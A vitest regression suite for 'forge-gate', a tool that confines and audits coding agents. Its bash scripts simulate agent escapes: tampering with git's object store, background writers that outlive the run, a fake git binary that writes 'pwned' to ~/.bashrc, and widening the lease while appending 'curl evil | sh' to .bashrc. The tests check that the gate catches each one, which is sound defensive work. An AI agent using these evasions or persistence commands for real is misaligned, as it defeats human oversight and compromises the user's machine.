import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { CLI, runCli } from "../support/cli.js";
import {
  agentEnv,
  cli,
  type Fixture,
  gateRun,
  gateSteps,
  makeFixture,
  type RunReport,
  runAgent,
  snapshotCli,
} from "./fixture.js";

/**
 * Regressions from the adversarial review: escapes that once passed with exit 0 and git's own
 * bookkeeping that must keep passing. Each agent is a real bash script on a real repository.
 */
interface Case {
  name: string;
  script: string;
  /** The path that must be named (exit 1). */
  path: (f: Fixture) => string;
}

const OBJECTS = 'objs="$(git rev-parse --path-format=absolute --git-common-dir)/objects"';

const ESCAPES: Case[] = [
  {
    name: "overwriting an existing loose object (its content no longer matches its name)",
    // Another valid object's bytes under README.md's id: every reader of main now sees other content.
    script: `${OBJECTS}\nid=$(git rev-parse HEAD:README.md)\nother=$(git rev-parse HEAD:src/a.txt)\no="$objs/\${id:0:2}/\${id:2}"\nchmod u+w "$o"\ncat "$objs/\${other:0:2}/\${other:2}" > "$o"`,
    path: (f) => {
      const id = spawnSync("git", ["rev-parse", "HEAD:README.md"], {
        cwd: f.repo,
        encoding: "utf8",
      }).stdout.trim();
      return join(f.repo, ".git", "objects", id.slice(0, 2), id.slice(2));
    },
  },
  {
    name: "planting a loose object whose content does not hash to its name",
    script: `${OBJECTS}\nmkdir -p "$objs/ab"\nprintf 'not zlib' > "$objs/ab/cdef0123456789abcdef0123456789abcdef01"`,
    path: (f) => join(f.repo, ".git", "objects", "ab", "cdef0123456789abcdef0123456789abcdef01"),
  },
  {
    name: "planting a pack git cannot verify (it would shadow objects for every reader)",
    script: `${OBJECTS}\nmkdir -p "$objs/pack"\nprintf 'PACK junk' > "$objs/pack/pack-0123456789012345678901234567890123456789.pack"\nprintf 'junk' > "$objs/pack/pack-0123456789012345678901234567890123456789.idx"`,
    path: (f) =>
      join(f.repo, ".git", "objects", "pack", "pack-0123456789012345678901234567890123456789.pack"),
  },
  {
    name: "a file in the object store that is not an object (multi-pack-index)",
    script: `${OBJECTS}\nmkdir -p "$objs/pack"\nprintf 'MIDX' > "$objs/pack/multi-pack-index"`,
    path: (f) => join(f.repo, ".git", "objects", "pack", "multi-pack-index"),
  },
];

describe("review: object-store tampering is not git bookkeeping", () => {
  for (const e of ESCAPES) {
    it(`run: ${e.name}`, () => {
      const f = makeFixture();
      const r = gateRun(f, e.script);
      expect(r.status, r.stderr).toBe(1);
      const report = JSON.parse(r.stdout) as RunReport;
      expect(report.violations.map((v) => v.path)).toContain(e.path(f));
    });
  }

  it("snapshot + collect + violations: an overwritten loose object is named", () => {
    const f = makeFixture();
    const { collect, violations } = gateSteps(f, ESCAPES[0]!.script);
    expect(collect.stdout.split("\0")).toContain(ESCAPES[0]!.path(f));
    expect(violations.status).toBe(1);
  });

  it("git's own objects and packs still pass: commits, a re-added blob (freshened), pack-objects", () => {
    const f = makeFixture();
    const r = gateRun(
      f,
      [
        "for i in 1 2 3; do echo $i > n$i; git add .; git commit -qm $i; done",
        // The same content again: git freshens the existing object instead of writing it.
        "echo hello > README.md && git add README.md && git commit -qm same --allow-empty",
        `${OBJECTS}\ngit rev-list --objects HEAD | cut -d' ' -f1 | git pack-objects -q "$objs/pack/pack" > /dev/null`,
      ].join("\n"),
    );
    expect(r.status, r.stdout + r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as RunReport;
    expect(report.verdict).toBe("pass");
  });
});

describe("review: what cannot be read after the run is a change", () => {
  it("a name the Node walker cannot address (not UTF-8) outside the lease is an escape", () => {
    const f = makeFixture();
    const r = gateRun(f, `d="$HOME/$(printf 'd\\xff')"\nmkdir "$d"\necho x > "$d/f"`, []);
    // Both walkers: find sees the name (lossily spelled); Node reports it as unreadable.
    expect(r.status, r.stderr).toBe(1);
    const prev = process.env.FORGE_GATE_WALKER;
    process.env.FORGE_GATE_WALKER = "node";
    try {
      const g = makeFixture();
      const n = gateRun(g, `d="$HOME/$(printf 'd\\xff')"\nmkdir "$d"\necho x > "$d/f"`, []);
      expect(n.status, n.stderr).toBe(1);
      const report = JSON.parse(n.stdout) as RunReport;
      expect(report.violations.some((v) => v.path.startsWith(join(g.home, "d")))).toBe(true);
    } finally {
      if (prev === undefined) delete process.env.FORGE_GATE_WALKER;
      else process.env.FORGE_GATE_WALKER = prev;
    }
  });
});

describe("review: `forge-gate … | head` does not crash", () => {
  it("EPIPE on stdout exits quietly with the command's own code", () => {
    const r = spawnSync(
      "bash",
      ["-c", `node "${CLI}" collect --help | head -c 1 > /dev/null; echo "\${PIPESTATUS[0]}"`],
      {
        encoding: "utf8",
      },
    );
    expect(r.stdout.trim()).toBe("0");
    expect(r.stderr).not.toMatch(/EPIPE|Unhandled/);
  });

  it("a verdict of 1 survives the reader going away", () => {
    const paths = Array.from({ length: 20000 }, (_, i) => `/etc/forge-gate-f${i}`).join("\n");
    const f = makeFixture({ writeRoots: "[]" });
    const r = spawnSync(
      "bash",
      [
        "-c",
        `node "${CLI}" violations --lease "${f.lease}" - 2>/dev/null | head -n 1 > /dev/null; echo "\${PIPESTATUS[0]}"`,
      ],
      { encoding: "utf8", input: paths },
    );
    expect(r.stdout.trim()).toBe("1");
  });
});

describe("review: run kills what left the process group before the sweep", () => {
  // Detection only: the sweep finds them by the run's mark (the capture layer's PID namespace takes
  // them down with it; they are not counted as survivors there).
  it.each([
    ["detection only", ["--attribution", "none"], 2],
    ["the capture layer", [], 0],
  ])(
    "a setsid'd and a double-forked nohup writer never write after the sweep (%s)",
    async (_what, flags, survivors) => {
      const f = makeFixture();
      const r = gateRun(
        f,
        [
          'setsid bash -c "sleep 1; echo late > \\"$HOME/late1\\"" </dev/null >/dev/null 2>&1 &',
          '( ( nohup sh -c "sleep 1; echo late > \\"$HOME/late2\\"" >/dev/null 2>&1 & ) & )',
          "sleep 0.2",
        ].join("\n"),
        flags,
      );
      expect(r.status, r.stderr).toBe(0);
      const report = JSON.parse(r.stdout) as RunReport & { command: { survivors_killed: number } };
      if (survivors > 0) expect(report.command.survivors_killed).toBeGreaterThanOrEqual(survivors);
      else expect(report.command.survivors_killed).toBe(0);
      await new Promise((done) => setTimeout(done, 1500));
      expect(existsSync(join(f.home, "late1"))).toBe(false);
      expect(existsSync(join(f.home, "late2"))).toBe(false);
    },
  );
});

describe("review: the base is pinned when the snapshot is taken", () => {
  it("an agent that moves the base ref to its HEAD still has its commits collected (and the move is named)", () => {
    const f = makeFixture();
    const out = join(f.snaps, "s.fgsnap");
    const snap = snapshotCli(f, { output: out });
    expect(snap.status, snap.stderr).toBe(0);
    const { digest } = JSON.parse(snap.stdout) as { digest: string };
    runAgent(f, 'echo more >> README.md\ngit commit -qam "agent work"\ngit update-ref refs/heads/main HEAD');
    const r = cli(f, [
      "collect",
      "--lease",
      f.lease,
      "--snapshot",
      out,
      "--snapshot-digest",
      digest,
      "--format",
      "json",
    ]);
    expect(r.status, r.stderr).toBe(0);
    const { changes } = JSON.parse(r.stdout) as RunReport;
    // base: main, as it was at snapshot time: the commit's change still comes from git.
    expect(changes).toContainEqual({ path: join(f.wt, "README.md"), change: "modified", source: "git" });
    expect(changes.map((c) => c.path)).toContain(join(f.repo, ".git", "refs", "heads", "main"));
  });

  it("collect warns when the snapshot is not pinned by digest", () => {
    const f = makeFixture();
    const out = join(f.snaps, "s.fgsnap");
    expect(cli(f, ["snapshot", "--lease", f.lease, ...f.rootFlags, "--output", out]).status).toBe(0);
    const r = cli(f, ["collect", "--lease", f.lease, "--snapshot", out]);
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(/not pinned by its digest: pass --snapshot-digest/);
  });
});

describe("review: forge-gate never runs a git the agent could replace", () => {
  const FAKE = '#!/bin/sh\necho pwned >> "$HOME/.bashrc"\nexec git-real "$@"\n';
  const setupTools = (f: Fixture) => {
    const tools = join(f.T, "tools");
    mkdirSync(tools);
    const real = spawnSync("sh", ["-c", "command -v git"], { encoding: "utf8" }).stdout.trim();
    symlinkSync(real, join(tools, "git"));
    writeFileSync(join(f.T, "fake-git"), FAKE.replace("git-real", real), { mode: 0o755 });
    return tools;
  };
  const run = (f: Fixture, path: string, script: string) => {
    writeFileSync(join(f.T, "agent.sh"), script);
    return runCli(
      ["run", "--lease", f.lease, ...f.rootFlags, "--format", "json", "--", "bash", join(f.T, "agent.sh")],
      { cwd: f.wt, env: { ...agentEnv(f), PATH: path } },
    );
  };

  it("a git inside the write roots is refused before the agent runs (exit 2), so it never runs", () => {
    const f = makeFixture({ writeRoots: '[".", "../tools"]' });
    const tools = setupTools(f);
    const r = run(f, `${tools}:${process.env.PATH}`, `rm "${tools}/git"\ncp "$T/fake-git" "${tools}/git"\n`);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/inside the lease's write roots/);
    expect(readFileSync(join(f.home, ".bashrc"), "utf8")).not.toContain("pwned");
  });

  it("relative PATH entries are ignored: a git planted in the worktree never runs", () => {
    const f = makeFixture();
    setupTools(f);
    const r = run(f, `.:${process.env.PATH}`, 'cp "$T/fake-git" ./git\n');
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(join(f.home, ".bashrc"), "utf8")).not.toContain("pwned");
  });
});

describe("review: the lease is pinned by the snapshot", () => {
  it("an agent that widens a lease file kept inside its write roots makes collect fail closed (exit 2)", () => {
    const f = makeFixture();
    const lease = join(f.wt, "lease.yaml");
    const text = (roots: string) =>
      `version: 1\nid: e2e-lease\nworktree: ${f.wt}\nwrite_roots: ${roots}\nbase: main\n`;
    writeFileSync(lease, text('["."]'));
    const out = join(f.snaps, "s.fgsnap");
    const snap = snapshotCli(f, { lease, output: out });
    expect(snap.status, snap.stderr).toBe(0);
    const { digest } = JSON.parse(snap.stdout) as { digest: string };
    writeFileSync(join(f.T, "wide.yaml"), text('[".", "~"]'));
    runAgent(f, 'cp "$T/wide.yaml" lease.yaml\necho "curl evil | sh" >> "$HOME/.bashrc"');
    const r = cli(f, ["collect", "--lease", lease, "--snapshot", out, "--snapshot-digest", digest, "-z"]);
    expect(r.status).toBe(2);
    expect(r.stdout).toBe("");
    expect(r.stderr).toMatch(/not the one snapshot .* was taken for/);
  });

  it("the same lease read again collects normally", () => {
    const f = makeFixture();
    const out = join(f.snaps, "s.fgsnap");
    const snap = snapshotCli(f, { output: out });
    const { digest } = JSON.parse(snap.stdout) as { digest: string };
    const r = cli(f, ["collect", "--lease", f.lease, "--snapshot", out, "--snapshot-digest", digest]);
    expect(r.status, r.stderr).toBe(0);
  });
});
